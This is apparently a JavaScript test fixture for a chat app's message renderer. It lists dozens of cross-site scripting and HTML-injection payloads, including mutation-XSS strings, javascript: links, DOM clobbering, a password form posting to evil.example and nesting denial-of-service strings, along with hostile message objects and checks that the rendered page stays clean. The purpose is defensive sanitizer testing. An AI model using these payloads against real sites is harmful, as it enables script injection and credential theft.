// SPDX-License-Identifier: MIT
//
// What somebody might say so that others' browsers do something: each tries to set window.ran, to open a dialog, to
// load something from elsewhere, or to look like a part of the page.

const script = 'window.ran=1';

/** Texts, said as each of the types. */
export const TEXTS = [
  `<script>${script}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<img src=x onerror="${script}">`,
  `<img src="https://evil.example/pixel.gif">`,
  `<svg onload="${script}">`,
  `<svg><script>${script}</script></svg>`,
  `<svg><a xlink:href="javascript:${script}"><text x="20" y="20">a</text></a></svg>`,
  `<svg><animate onbegin="${script}" attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${script}">`,
  `<math href="javascript:${script}">click</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${script}">`,
  `<iframe src="javascript:${script}"></iframe>`,
  `<iframe srcdoc="<script>parent.ran=1</script>"></iframe>`,
  `<object data="data:text/html,<script>parent.ran=1</script>"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<a href="javascript:${script}">click</a>`,
  `<a href=" &#106;avascript:${script}">click</a>`,
  `<a href="java\tscript:${script}">click</a>`,
  `<a href="data:text/html,<script>opener.ran=1</script>">click</a>`,
  `<a href="vbscript:msgbox(1)">click</a>`,
  `<a href="//evil.example/">click</a>`,
  `<body onload="${script}">`,
  `<details open ontoggle="${script}">x</details>`,
  `<input autofocus onfocus="${script}">`,
  `<video><source onerror="${script}"></video>`,
  `<audio src=x onerror="${script}">`,
  `<marquee onstart="${script}">x</marquee>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
  `<img/src=x/onerror\n=\n${script}>`,
  `<img src="x"ONERROR=${script}>`,
  `<p STYLE="color:red">on style="x" onclick="y"</p>`,
  `<svg><style>@import '//evil.example/x'</style></svg>`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<style>@import "https://evil.example/x.css"; .sc { display: none }</style>`,
  `<div style="position:fixed;inset:0;background:url(https://evil.example/x.png)">x</div>`,
  `<div class="dialog popup tools" id="sc-1" role="alert">Type your password</div>`,
  `<form action="https://evil.example/"><input name=password><button>Log in</button></form>`,
  `<template><img src=x onerror="${script}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  `<p title="<img src=x onerror=${script}>">x`,
  `<textarea><img src=x onerror="${script}"></textarea>`,
  `<xmp><img src=x onerror="${script}"></xmp>`,
  `<!--><img src=x onerror="${script}">-->`,
  `<![CDATA[<img src=x onerror="${script}">]]>`,
  `<button popovertarget=x onclick="${script}">x</button>`,
  `<x onclick="${script}" contenteditable>x</x>`,
  `<img name="getElementById"><img name="cookie"><form id="forms"><input name="attributes"></form>`,
  `"><img src=x onerror="${script}">`,
  `' onmouseover='${script}`,
  `javascript:${script}`,
  `{{constructor.constructor('${script}')()}}`,
  `\${${script}}`,
  `.. raw:: html\n\n   <script>${script}</script>`,
  `\`click <javascript:${script}>\`_`,
  `.. image:: https://evil.example/pixel.gif`,
  `https://good.example/"onmouseover="${script}`,
  `https://good.example/<script>${script}</script>`,
  `http://user:secret@evil.example/ javascript://%0a${script}`,
  `\u202Eexe.gnp\u202C and \u2066\u2067 never closed`,
  `${'<b>'.repeat(3000)}deep`,
  `${'<div><table>'.repeat(600)}nested`,
  `a@${'a.'.repeat(3000)}`,
  `http://x${')'.repeat(3000)}`,
];

/** Everything else of a message that somebody else decides. */
export const MESSAGES = [
  { text: 'a', subject: `<img src=x onerror="${script}">` },
  { text: 'b', language: 'en', unknown: `<script>${script}</script>` },
  { text: 'c', inReplyTo: { seq: 1, id: `<img src=x onerror="${script}">`, sender: { displayName: `<b>` } } },
  { text: 'd', inReplyTo: { seq: `<img src=x onerror="${script}">` } },
  { text: 'e', inReplyTo: 'javascript:window.ran=1' },
  { text: 'f', inReplyTo: { seq: 9007199254740991 } },
  { text: 'g', attachments: [{ objectType: 'image', mimeType: 'image/png', url: 'javascript:window.ran=1', displayName: `<img src=x onerror="${script}">` }] },
  { text: 'h', attachments: [{ objectType: 'image', mimeType: 'image/png', url: 'https://evil.example/x.png', displayName: 'x' }] },
  { text: 'i', attachments: [{ objectType: 'image', mimeType: 'image/svg+xml', url: 'data:image/svg+xml,<svg onload="window.ran=1">' }] },
  { text: 'j', attachments: [{ url: '//evil.example/x' }, { url: '../../chat/index.html' }, { url: 'attachment/../token' }, {}, { url: {} }] },
  { text: 'k', attachments: [{ displayName: { toString: 1 }, fileSize: 'much', mimeType: ['image/png'], url: ['x'] }] },
  { text: 'l', attachments: [{ displayName: 'x'.repeat(5000), fileSize: -1, mimeType: 'image/png', url: 'attachment/0' }] },
  { text: 'm', attachments: [{ displayName: 'n', fileSize: 1e308, url: '/nereid-chat/token' }] },
  { text: 'n', id: 'cccccccc-cccc-4ccc-8ccc-cccccccccccc', __proto__x: { a: 1 }, constructor: 'x', toString: 'y', hasOwnProperty: 1 },
];

/** In the page: what must not be there, whoever said what. */
export function harm() {
  return {
    ran: window.ran ?? null,
    elements: document.querySelectorAll('.log :is(script, iframe, object, embed, form, input, style, link, meta, base, svg:not(.icon), math, video, audio, template, template *, textarea, marquee, x)').length,
    attributes: Array.from(document.querySelectorAll('.log .text, .log .text *'), (node) => Array.from(node.attributes, (one) => one.name))
      .flat().filter((name) => /^on|^style$|^id$|^name$|^src|^action|^xlink/.test(name)),
    classes: document.querySelectorAll('.log .text :is(.dialog, .popup, .tools)').length,
    addresses: Array.from(document.querySelectorAll('.log a[href]'), (one) => one.protocol).filter((one) => !/^(https?|mailto):$/.test(one)),
    images: Array.from(document.querySelectorAll('img'), (one) => one.src).filter((src) => !src.startsWith(window.location.origin)),
    bare: Array.from(document.querySelectorAll('.log .text a[href]')).filter((one) => !/noopener/.test(one.rel) || !/noreferrer/.test(one.rel)).length,
  };
}

export const NO_HARM = { ran: null, elements: 0, attributes: [], classes: 0, addresses: [], images: [], bare: 0 };

/** In the page: pointers go over everything, and it is scrolled by. */
export function touch() {
  const log = document.querySelector('.log');
  for (const node of log.querySelectorAll('.text, .text *')) {
    for (const kind of ['mouseover', 'focus', 'toggle', 'pointerover']) node.dispatchEvent(new Event(kind));
  }
  log.scrollTop = 0;
}
